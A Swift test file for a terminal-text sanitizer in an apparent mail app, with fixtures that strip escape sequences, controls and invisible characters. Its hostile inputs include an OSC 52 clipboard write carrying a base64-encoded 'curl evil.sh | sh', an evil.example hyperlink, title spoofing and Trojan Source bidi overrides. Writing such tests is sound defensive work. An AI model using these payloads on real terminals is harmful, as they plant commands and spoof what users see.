import Testing
@testable import MailText

/// One hostile input and what must be drawn instead.
struct SanitizerCase: Sendable, CustomTestStringConvertible {
    let name: String
    let input: String
    let expected: String
    var testDescription: String { name }

    init(_ name: String, _ input: String, _ expected: String) {
        self.name = name
        self.input = input
        self.expected = expected
    }
}

@Suite struct TerminalTextTests {
    init() throws {
        try #require(UTF8Locale.installed)
    }

    static let escapeSequences: [SanitizerCase] = [
        .init("SGR colour", "\u{1B}[31mRed\u{1B}[0m text", "�Red� text"),
        .init("CSI private mode (alternate screen)", "a\u{1B}[?1049hb", "a�b"),
        .init("CSI clear screen between words", "x\u{1B}[2Jy", "x�y"),
        .init("CSI with intermediate byte", "\u{1B}[1 qz", "�z"),
        .init("adjacent sequences become one placeholder", "\u{1B}[1m\u{1B}[31m\u{1B}[4mHi", "�Hi"),
        .init("OSC 0 window title ended by BEL", "\u{1B}]0;pwned\u{07}Subject", "�Subject"),
        .init("OSC 2 title ended by ST", "\u{1B}]2;title\u{1B}\\Subject", "�Subject"),
        .init("OSC 52 clipboard write", "\u{1B}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{1B}\\after", "�after"),
        .init("OSC 8 hyperlink", "\u{1B}]8;;http://evil.example\u{1B}\\click\u{1B}]8;;\u{1B}\\", "�click�"),
        .init("OSC with UTF-8 payload", "\u{1B}]0;Заголовок 世界\u{07}ok", "�ok"),
        .init("DCS (DECRQSS)", "\u{1B}P$qm\u{1B}\\x", "�x"),
        .init("APC", "\u{1B}_Gf=100;AAAA\u{1B}\\y", "�y"),
        .init("PM", "\u{1B}^private\u{1B}\\z", "�z"),
        .init("SOS", "\u{1B}Xstart of string\u{1B}\\w", "�w"),
        .init("string aborted by CAN", "\u{1B}]0;t\u{18}after", "�after"),
        .init("unterminated OSC ends at the line break", "\u{1B}]0;evil title\nnext line", "�\nnext line"),
        .init("ESC inside OSC starts a new sequence", "\u{1B}]0;t\u{1B}[31mred", "�red"),
        .init("RIS reset", "\u{1B}cReset", "�Reset"),
        .init("save and restore cursor", "\u{1B}7save\u{1B}8", "�save�"),
        .init("charset designation", "\u{1B}(Bascii", "�ascii"),
        .init("DEC screen alignment test", "\u{1B}#8E", "�E"),
        .init("keypad mode", "\u{1B}=k", "�k"),
        .init("ESC at the end", "abc\u{1B}", "abc�"),
        .init("ESC ESC ESC", "\u{1B}\u{1B}\u{1B}[1mx", "�x"),
        .init("ESC takes the printable character after it", "\u{1B}x\u{1B}1y", "�y"),
        .init("ESC before non-ASCII", "\u{1B}é", "�é"),
        .init("CSI cut by a newline", "\u{1B}[31\nm", "�\nm"),
        .init("CSI cut by non-ASCII", "\u{1B}[31ñm", "�ñm"),
        .init("8-bit CSI", "\u{9B}31mRed", "�Red"),
        .init("8-bit OSC ended by BEL", "\u{9D}0;title\u{07}x", "�x"),
        .init("8-bit OSC ended by 8-bit ST", "\u{9D}0;t\u{9C}y", "�y"),
        .init("8-bit DCS", "\u{90}1$r0m\u{9C}z", "�z"),
        .init("8-bit APC, PM, SOS", "\u{9F}a\u{9C}1\u{9E}b\u{9C}2\u{98}c\u{9C}3", "�1�2�3"),
        .init("stray 8-bit ST", "a\u{9C}b", "a�b"),
        .init("other C1 control", "a\u{84}b\u{8D}c", "a�b�c"),
    ]

    @Test(arguments: escapeSequences)
    func escapeSequencesAreRemovedWhole(_ fixture: SanitizerCase) {
        #expect(TerminalText.sanitize(fixture.input) == fixture.expected)
    }

    static let controls: [SanitizerCase] = [
        .init("NUL, BEL, BS", "a\u{0}b\u{7}c\u{8}d", "a�b�c�d"),
        .init("run of controls is one placeholder", "x\u{1}\u{2}\u{3}y", "x�y"),
        .init("backspace overwrite trick", "safe\u{8}\u{8}\u{8}\u{8}evil", "safe�evil"),
        .init("DEL", "a\u{7F}b", "a�b"),
        .init("CR alone is a line break", "Amount: $100\r$999", "Amount: $100\n$999"),
        .init("CR LF is one line break", "a\r\nb", "a\nb"),
        .init("LF CR is two", "a\n\rb", "a\n\nb"),
        .init("VT and FF", "a\u{B}b\u{C}c", "a\nb\nc"),
        .init("NEL", "a\u{85}b", "a\nb"),
        .init("line and paragraph separators", "a\u{2028}b\u{2029}c", "a\nb\nc"),
        .init("tab to the next stop", "a\tb", "a   b"),
        .init("leading tab", "\tx", "    x"),
        .init("tab stops follow the text", "ab\tc\td", "ab  c   d"),
        .init("tab after a wide character", "世\tx", "世  x"),
        .init("tab columns restart on each line", "abc\nd\te", "abc\nd   e"),
        .init("tab after a placeholder", "\u{1B}[1m\tx", "�   x"),
    ]

    @Test(arguments: controls)
    func controlsAreReplaced(_ fixture: SanitizerCase) {
        #expect(TerminalText.sanitize(fixture.input) == fixture.expected)
    }

    static let invisible: [SanitizerCase] = [
        .init("right-to-left override (Trojan Source)", "abc\u{202E}fed\u{202C}ghi", "abcfedghi"),
        .init("embeddings", "\u{202A}x\u{202B}y\u{202D}z", "xyz"),
        .init("isolates", "\u{2066}a\u{2067}b\u{2068}c\u{2069}", "abc"),
        .init("bidi marks", "a\u{200E}b\u{200F}c\u{61C}d", "abcd"),
        .init("zero-width space", "pay\u{200B}pal", "paypal"),
        .init("zero-width non-joiner and word joiner", "a\u{200C}b\u{2060}c", "abc"),
        .init("byte order mark", "\u{FEFF}Subject", "Subject"),
        .init("soft hyphen", "co\u{AD}operate", "cooperate"),
        .init("invisible operators", "a\u{2061}b\u{2062}c\u{2063}d\u{2064}e", "abcde"),
        .init("tag characters", "a\u{E0001}\u{E0041}\u{E007F}b", "ab"),
        .init("interlinear annotation", "\u{FFF9}a\u{FFFA}b\u{FFFB}", "ab"),
        .init("Mongolian vowel separator", "a\u{180E}b", "ab"),
        .init("invisible run between controls keeps one placeholder", "\u{1}\u{200B}\u{2}", "�"),
    ]

    @Test(arguments: invisible)
    func invisibleCharactersAreDropped(_ fixture: SanitizerCase) {
        #expect(TerminalText.sanitize(fixture.input) == fixture.expected)
    }

    static let emoji: [SanitizerCase] = [
        .init("skin tone dropped", "👍🏽 ok", "👍 ok"),
        .init("ZWJ family split into its people", "👨‍👩‍👧", "👨👩👧"),
        .init("ZWJ profession", "🧑🏾‍💻", "🧑💻"),
        .init("VS16 dropped", "❤️ love", "❤ love"),
        .init("keycap keeps its enclosing mark", "1️⃣", "1\u{20E3}"),
        .init("subdivision flag loses its tags", "🏴\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F}", "🏴"),
    ]

    @Test(arguments: emoji)
    func emojiSequencesAreFlattened(_ fixture: SanitizerCase) {
        #expect(TerminalText.sanitize(fixture.input) == fixture.expected)
    }

    static let unchanged: [String] = [
        "", "Plain subject line", "Multi\nline\n\nbody\n", "Café, naïve, Ærøskøbing",
        "e\u{301}\u{302} combining", "世界 中文 日本語 한국어", "🇺🇸 🇩🇪 flags", "😀 🎉 emoji",
        "\u{FFFD} replacement stays", "Ｆｕｌｌｗｉｄｔｈ", "עברית and العربية without marks",
        "VS15 text style ☺\u{FE0E}", "ideographic variation 葛\u{E0100}",
    ]

    @Test(arguments: unchanged)
    func plainTextPassesUnchanged(_ text: String) {
        #expect(TerminalText.sanitize(text) == text)
        if !text.contains("\n") {
            #expect(TerminalText.sanitizeLine(text) == text)
        }
    }

    @Test func invalidUTF8AndLoneSurrogatesDecodeToReplacementCharacters() {
        // ED A0 80 is an encoded lone surrogate U+D800; Swift decodes it to U+FFFD.
        let decoded = String(decoding: [0x61, 0xED, 0xA0, 0x80, 0x62, 0xFF, 0x63], as: UTF8.self)
        #expect(decoded.unicodeScalars.allSatisfy { $0.value != 0xD800 })
        #expect(TerminalText.sanitize(decoded) == decoded)
        #expect(decoded.contains("\u{FFFD}"))
    }

    static let singleLine: [SanitizerCase] = [
        .init("LF becomes the marker", "Hello\nWorld", "Hello ⏎ World"),
        .init("breaks and surrounding spaces merge", "Hello  \r\n\r\n \t World", "Hello ⏎ World"),
        .init("breaks at either end are dropped", "\n\n  Subject\n", "Subject"),
        .init("separators", "Line1\u{2028}Line2\u{85}Line3", "Line1 ⏎ Line2 ⏎ Line3"),
        .init("OSC title in a subject", "Invoice\u{1B}]0;You have been hacked\u{07}", "Invoice�"),
        .init("unterminated OSC ends at the break", "x\u{1B}]0;t\ny", "x� ⏎ y"),
        .init("tab", "a\tb", "a   b"),
        .init("tab columns restart after the marker", "abc\nd\te", "abc ⏎ d   e"),
        .init("only breaks", "\r\n\n", ""),
    ]

    @Test(arguments: singleLine)
    func singleLineFields(_ fixture: SanitizerCase) {
        #expect(TerminalText.sanitizeLine(fixture.input) == fixture.expected)
    }

    @Test func singleLineMarkerAndPlaceholderCanBeASCII() {
        let text = "one\ntwo\u{1B}[1mthree"
        #expect(TerminalText.sanitizeLine(text, lineBreak: " | ", placeholder: "?") == "one | two?three")
        #expect(TerminalText.sanitizeLine(text, lineBreak: " ") == "one two�three")
        #expect(TerminalText.sanitize("a\tb", tabWidth: 8) == "a       b")
        #expect(TerminalText.sanitize("a\u{0}b", placeholder: "?") == "a?b")
    }

    @Test func hugeFields() {
        let plain = String(repeating: "All work and no play makes Jack a dull boy. ", count: 25_000)
        #expect(TerminalText.sanitize(plain) == plain)
        #expect(TerminalText.sanitizeLine(plain) == plain)

        let colours = String(repeating: "\u{1B}[31m", count: 100_000) + "x"
        #expect(TerminalText.sanitize(colours) == "�x")

        let unterminated = "\u{1B}]0;" + String(repeating: "A", count: 1_000_000)
        #expect(TerminalText.sanitize(unterminated) == "�")

        let lines = String(repeating: "\n", count: 100_000)
        #expect(TerminalText.sanitizeLine("a" + lines + "b") == "a ⏎ b")
        #expect(TerminalText.sanitize(lines) == lines)
    }
}
